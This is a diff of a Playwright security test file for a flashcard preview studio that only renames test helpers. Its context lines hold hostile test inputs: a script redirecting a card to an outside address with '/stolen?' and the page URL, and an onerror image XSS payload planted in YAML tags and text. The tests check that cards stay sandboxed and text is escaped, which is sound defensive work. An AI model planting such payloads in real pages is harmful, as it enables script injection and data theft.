@@ -12,8 +12,8 @@ from typing import Any
 import pytest
 from playwright.sync_api import Browser, Page, expect
 
-from tests.preview.browser import browser, card_of, look, running
-from tests.preview.projects import small_project
+from tests.preview.studio_browser import browser, find_card_frame, look, run_studio
+from tests.preview.studio_projects import write_small_project
 
 __all__ = ["browser", "look"]  # fixtures
 pytestmark = pytest.mark.slow
@@ -92,7 +92,7 @@ def outside() -> Iterator[tuple[str, list[str]]]:
 
 def hostile_project(root: Path, script: str) -> Path:
     """A deck whose card template holds a script."""
-    small_project(root, 6)
+    write_small_project(root, 6)
     base = root / "templates" / "base"
     base.mkdir(parents=True)
     (base / "card.html.j2").write_text(
@@ -112,7 +112,7 @@ def test_a_card_reaches_nothing(tmp_path: Path, browser: Browser) -> None:
             for path in project.rglob("*")
             if path.is_file() and path.suffix == ".yaml"
         }
-        with running(project) as studio:
+        with run_studio(project) as studio:
             template = project / "templates" / "base" / "card.html.j2"
             attack = ATTACK.replace("OUTSIDE", address).replace("STUDIO", studio)
             template.write_text(
@@ -122,7 +122,7 @@ def test_a_card_reaches_nothing(tmp_path: Path, browser: Browser) -> None:
             page.goto(studio)
             title = page.title()
             page.locator(".row").nth(1).click()
-            card = card_of(page)
+            card = find_card_frame(page)
             expect(card.locator("#got")).to_have_attribute("data-done", "1")
             page.wait_for_timeout(500)
             assert card.locator("#got").inner_text().strip() == ""
@@ -143,7 +143,7 @@ def test_a_card_cannot_leave_its_frame_for_elsewhere(tmp_path: Path, browser: Br
         project = hostile_project(
             tmp_path, f"<script>location.href = '{address}/stolen?' + location.href;</script>"
         )
-        with running(project) as studio:
+        with run_studio(project) as studio:
             page = browser.new_context().new_page()
             page.goto(studio)
             page.locator(".row").nth(1).click()
@@ -157,7 +157,7 @@ def test_texts_are_no_html(tmp_path: Path, look: Callable[..., Page]) -> None:
     they are written.
     """
     evil = "<img src=x onerror=\"document.title='taken'\">"
-    root = small_project(tmp_path, 3)
+    root = write_small_project(tmp_path, 3)
     path = root / "cards/small/questions.yaml"
     text = path.read_text(encoding="utf-8")
     text = text.replace("kind: basic\n", f"kind: basic\ntags: ['{evil.replace(chr(32), '_')}']\n")
@@ -175,10 +175,10 @@ def test_texts_are_no_html(tmp_path: Path, look: Callable[..., Page]) -> None:
         source.read_text(encoding="utf-8") + f"Nobody quotes {evil} in this sentence.\n",
         encoding="utf-8",
     )
-    with running(root) as address:
+    with run_studio(root) as address:
         page = look(address)
         page.locator(".row").nth(1).click()
-        expect(card_of(page).locator(".prompt")).to_contain_text("onerror")
+        expect(find_card_frame(page).locator(".prompt")).to_contain_text("onerror")
         page.keyboard.press("g")
         page.keyboard.press("n")
         expect(page.locator("[data-quote]").first).to_have_value(
